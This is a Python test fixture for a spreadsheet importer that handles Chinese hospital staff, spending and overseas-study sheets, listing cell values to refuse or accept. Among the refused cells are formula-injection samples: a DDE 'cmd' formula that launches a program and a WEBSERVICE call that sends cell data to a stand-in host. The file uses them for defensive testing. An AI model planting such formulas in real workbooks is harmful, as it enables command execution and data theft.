"""Cells of every kind that people type or programs leave behind: what is taken, and what is refused at its place with what to do."""

from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import Any

from tests.builders.imports import identity_number
from tests.builders.workbooks import ErrorCell, Formula, Raw, xlsx

ROSTER, SPENDING, ABROAD = "花名册", "支出明细", "国（境）外研学人员"
HEADERS = {
    ROSTER: ["工号", "姓名", "性别", "出生日期", "身份证号", "所在科室", "来院日期", "最高学位", "职务"],
    SPENDING: ["工号", "报销日期", "科目", "金额", "凭证号"],
    ABROAD: ["工号", "派出日期", "国家", "机构", "是否保密"],
}
BORN = date(1985, 4, 12)


@dataclass(frozen=True)
class Cell:
    """A cell below a header. It is `taken` as a value, or refused with a code and what was found, as the sentence shows it."""

    sheet: str
    header: str
    holds: Any
    code: str = ""
    found: str = ""
    taken: Any = None


def card(number: int) -> str:
    """Return the ID number of the person in a row."""
    return identity_number(BORN, "male", number)


def rows_of(sheet: str, cells: list[Cell]) -> list[list[Any]]:
    """Return a good row for each cell of a sheet, with that cell in its place. People are numbered by their row, from 2."""
    rows = []
    for number, cell in enumerate(cells, start=2):
        good = {
            ROSTER: [str(number), f"员工{chr(0x4E00 + number)}", None, None, None, "外科", "2015-07-01", "博士", None],
            SPENDING: ["1", "2022-03-01", "劳务费", 100 + number, f"V{number}"],
            ABROAD: ["1", date(2000 + number, 3, 1).isoformat(), "德国", "某大学", "否"],
        }[sheet]
        row = dict(zip(HEADERS[sheet], good, strict=True)) | {cell.header: cell.holds}
        rows.append(list(row.values()))
    return rows


def book(cells: dict[str, Cell]) -> bytes:
    """Return a workbook with a sheet for each kind of row; person 1, whom spending and journeys are about, is in the roster."""
    sheets = {sheet: [cell for cell in cells.values() if cell.sheet == sheet] for sheet in HEADERS}
    tables = {sheet: [HEADERS[sheet], *rows_of(sheet, of)] for sheet, of in sheets.items() if of}
    tables["在职人员"] = [HEADERS[ROSTER], ["1", "李明", "男", "1985-04-12", None, "外科", "2010-07-01", None, None]]
    return xlsx(tables)


def _roster(header: str, holds: Any, code: str = "", found: str = "", taken: Any = None) -> Cell:
    return Cell(ROSTER, header, holds, code, found, taken)


def _joined(holds: Any, taken: date) -> Cell:
    return _roster("来院日期", holds, taken=taken)


def _not_joined(holds: Any, code: str, found: str = "") -> Cell:
    return _roster("来院日期", holds, code, found or str(holds))


def _spent(holds: Any, taken: str) -> Cell:
    return Cell(SPENDING, "金额", holds, taken=Decimal(taken))


def _not_spent(holds: Any, code: str, found: str) -> Cell:
    return Cell(SPENDING, "金额", holds, code, found)


def _serial(number: float) -> Raw:
    return Raw(f'<c r="{{r}}" s="1"><v>{number}</v></c>')


def _number(typed: str) -> Raw:
    return Raw(f'<c r="{{r}}"><v>{typed}</v></c>')


WRONG_CARD = card(1)[:-1] + ("0" if card(1)[-1] != "0" else "1")
FORMULAS = {
    "formula": "VLOOKUP(A2,B:C,2)",
    "formula to another file": "[1]Sheet1!$A$1",
    "formula to the web": 'WEBSERVICE("http://a.example/"&A2)',
    "formula that starts a program": "cmd|' /C calc'!A0",
    "formula of a link": 'HYPERLINK("http://a.example","x")',
}
TEN = {"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"}

REFUSED: dict[str, Cell] = {
    **{f"{kind} without result": _not_joined(Formula(text), "formula-without-value", f"={text}") for kind, text in FORMULAS.items()},
    **{f"error {name}": _not_joined(ErrorCell(name), "cell-error", name) for name in sorted(TEN)},
    # days
    "year and month for a day": _not_joined("1985年3月", "date-day-missing"),
    "year and month as a number": _not_joined(1985.3, "date-day-missing"),
    "year point month": _not_joined("1985.3", "date-day-missing"),
    "January or October": _not_joined(1985.1, "date-month-ambiguous"),
    "year in ideographs": _not_joined("二〇二〇年", "date-day-missing"),
    "29 February of no leap year": _not_joined("2019-02-29", "date-impossible"),
    "30 February": _not_joined("1985-02-30", "date-impossible"),
    "month 13": _not_joined("1985-13-01", "date-impossible"),
    "until now": _not_joined("至今", "date-open"),
    "1885": _not_joined("1885-01-02", "date-out-of-range"),
    "2085": _not_joined("2085-01-02", "date-out-of-range"),
    "serial 60": _not_joined(_serial(60), "date-before-calendar", "1900-02-28"),
    "serial 1": _not_joined(_serial(1), "date-before-calendar", "1900-01-01"),
    "serial 0": _not_joined(_serial(0), "date-not-understood", "00:00:00"),
    "serial below zero": _not_joined(-5, "date-not-understood"),
    "day beyond Excel's calendar": _not_joined(2958466, "date-not-understood"),
    "a word for a day": _not_joined("下月初", "date-not-understood"),
    "a clock time": _not_joined("08:30", "date-not-understood"),
    "a truth value for a day": _not_joined(True, "date-not-understood"),
    "two days for one": _not_joined("2020-01-01 2021-01-01", "date-not-understood"),
    # numbers of people
    "number with decimals": _roster("工号", 10.5, "staff-no-fraction", "10.5"),
    "number beyond exactness": _roster("工号", 1.2e17, "staff-no-fraction", "1.2e+17"),
    "Arabic-Indic digits": _roster("工号", "١٠٠٠٧", "staff-no-foreign-digits", "١٠٠٠٧"),
    "a truth value for a number": _roster("工号", True, "staff-no-not-understood", "True"),
    "a day for a number": _roster("工号", date(2020, 1, 1), "staff-no-not-understood", "2020-01-01"),
    "strokes for a number": _roster("工号", "--", "staff-no-not-understood", "--"),
    "51 characters for a number": _roster("工号", "1" * 51, "staff-no-not-understood", "1" * 51),
    "an ID number for a number": _roster("工号", card(70), "staff-no-is-id-number", "11**************" + card(70)[-2:]),
    # names
    "a number for a name": _roster("姓名", 12345, "name-not-a-name", "12345"),
    "a day for a name": _roster("姓名", date(2020, 1, 1), "name-not-a-name", "2020-01-01"),
    "signs for a name": _roster("姓名", "··", "name-not-a-name", "··"),
    "101 characters for a name": _roster("姓名", "长" * 101, "text-too-long", "长" * 59 + "…"),
    "no name": _roster("姓名", None, "required", ""),
    "a name nobody can see": _roster("姓名", "\u200b\ufeff", "required", ""),
    # ID numbers
    "ID number as a number": _roster("身份证号", 330102198503150000, "id-number-numeric", "3.***************17"),
    "ID number as a broken number": _roster("身份证号", _number("3.3010219850315E17"), "id-number-numeric", "3.***************17"),
    "ID number in scientific form": _roster("身份证号", "3.30102E+17", "id-number-numeric", "33******17"),
    "ID number of 15 digits": _roster("身份证号", "110105491231002", "id-number-fifteen", "11***********02"),
    "ID number too short": _roster("身份证号", "1101051949123100", "id-number-length", "11************00"),
    "ID number of no day": _roster("身份证号", "11010519490230002X", "id-number-date", "11**************2X"),
    "ID number with a letter": _roster("身份证号", "O1010519491231002X", "id-number-characters", "O1**************2X"),
    "ID number in Arabic-Indic digits": _roster("身份证号", "١١٠١٠٥١٩٤٩١٢٣١٠٠٢٤", "id-number-characters", "١١**************٢٤"),
    "ID number's last character": _roster("身份证号", WRONG_CARD, "id-number-check-digit", f"11**************{WRONG_CARD[-2:]}"),
    "no ID number": _roster("身份证号", "无", "id-number-characters", "*"),
    # words
    "an unknown word": _roster("最高学位", "硕研", "choice-unknown", "硕研"),
    "an unknown department": _roster("所在科室", "外三", "unit-unknown", "外三"),
    "201 characters of text": _roster("职务", "长" * 201, "text-too-long", "长" * 59 + "…"),
    "no truth value": Cell(ABROAD, "是否保密", "也许", "yes-no-not-understood", "也许"),
    "an unknown person": Cell(ABROAD, "工号", "99999", "person-unknown", "99999"),
    # money
    "not a number": _not_spent(_number("NaN"), "amount-not-finite", "nan"),
    "1e309": _not_spent(_number("1e309"), "amount-not-finite", "inf"),
    "1e309 as text": _not_spent("1e309", "amount-not-finite", "1e309"),
    "words for money": _not_spent("约三千", "amount-not-understood", "约三千"),
    "a day for money": _not_spent(date(2020, 1, 1), "amount-not-understood", "2020-01-01"),
    "less than a fen": _not_spent("1.005", "amount-too-fine", "1.005"),
    "a bracket that does not close": _not_spent("(100", "amount-not-understood", "(100"),
    "two points": _not_spent("1.234.5", "amount-not-understood", "1.234.5"),
    "beyond all money": _not_spent(1e13, "amount-too-large", "10000000000000"),
}  # fmt: skip

TAKEN: dict[str, Cell] = {
    "formula with its result": _roster("职务", Formula("A1", "科主任"), taken="科主任"),
    "formula to another file with its result": _joined(Formula("[1]a!B2", "2020-03-01"), date(2020, 3, 1)),
    "formula to the web with its result": _roster("职务", Formula('WEBSERVICE("http://a.example")', "组长"), taken="组长"),
    "formula that starts a program with its result": _roster("职务", Formula("cmd|'/C calc'!A0", "护士长"), taken="护士长"),
    "formula's text typed as text": _roster("职务", "=1+1", taken="=1+1"),
    # days
    "two digits of a year": _joined("85/3/1", date(1985, 3, 1)),
    "a day in ideographs": _joined("二〇二〇年三月二十一日", date(2020, 3, 21)),
    "a day in full width": _joined("２０２０．３．１", date(2020, 3, 1)),
    "eight digits": _joined(20200301, date(2020, 3, 1)),
    "a serial without format": _joined(43891, date(2020, 3, 1)),
    "a moment": _joined("2020-03-01 08:30:00", date(2020, 3, 1)),
    "a moment with its zone": _joined("2020-03-01T20:00:00Z", date(2020, 3, 2)),
    "serial 61": _joined(_serial(43891), date(2020, 3, 1)),
    "29 February": _joined("2020-02-29", date(2020, 2, 29)),
    "a stroke for no day": _joined("/", None),
    # numbers
    "number in full width": _roster("工号", "１０００７", taken="10007"),
    "number with zeros before it": _roster("工号", "0010008", taken="0010008"),
    "number as a number": _roster("工号", 10009, taken="10009"),
    "number as a float": _roster("工号", "10010.0", taken="10010"),
    "number behind an apostrophe": _roster("工号", "'0010011", taken="0010011"),
    "number with spaces of every kind": _roster("工号", "\u3000100\u00a012\u200b\t", taken="10012"),
    # names
    "zero width inside a name": _roster("姓名", "张\u200b三\u2060", taken="张三"),
    "no-break space in a name": _roster("姓名", "\u00a0张\u00a0三\u00a0", taken="张 三"),
    "tab and line end in a name": _roster("姓名", "李\t四\r\n", taken="李 四"),
    "left to right marks in a name": _roster("姓名", "\u202e王五\u202c", taken="王五"),
    "rare characters in a name": _roster("姓名", "𠮷𬭎𰻝", taken="𠮷𬭎𰻝"),
    "a middle dot in a name": _roster("姓名", "阿依古丽·买买提", taken="阿依古丽·买买提"),
    "a private-use character in a name": _roster("姓名", "赵\ue863", taken="赵\ue863"),
    "lone surrogates in a name": _roster("姓名", "钱_xD83D_", taken="钱_xD83D_"),
    "an escaped sign in a name": _roster("姓名", "孙_x0041_", taken="孙A"),
    # ID numbers: the number's own birth date and sex fill what is blank
    "ID number with a lower-case x": _roster("身份证号", "11010519491231002x", taken="11010519491231002X"),
    "ID number in full width with spaces": _roster("身份证号", "３３０１００　１９８６１２１５　９７１６", taken="330100198612159716"),
    # truth values
    **{f"yes as {word}": Cell(ABROAD, "是否保密", word, taken=True) for word in ("是", "√", "TRUE", "Ｙ", 1, True)},
    **{f"no as {word}": Cell(ABROAD, "是否保密", word, taken=False) for word in ("否", "×", "无", False)},
    # money
    "ten thousands": _spent("1,234.5万", "12345000.00"),
    "yuan sign": _spent("￥1,234.50", "1234.50"),
    "brackets for less than nothing": _spent("(100)", "-100.00"),
    "full width money": _spent("１２３４．５元", "1234.50"),
    "noise of floats": _spent(0.1 + 0.2, "0.30"),
}  # fmt: skip
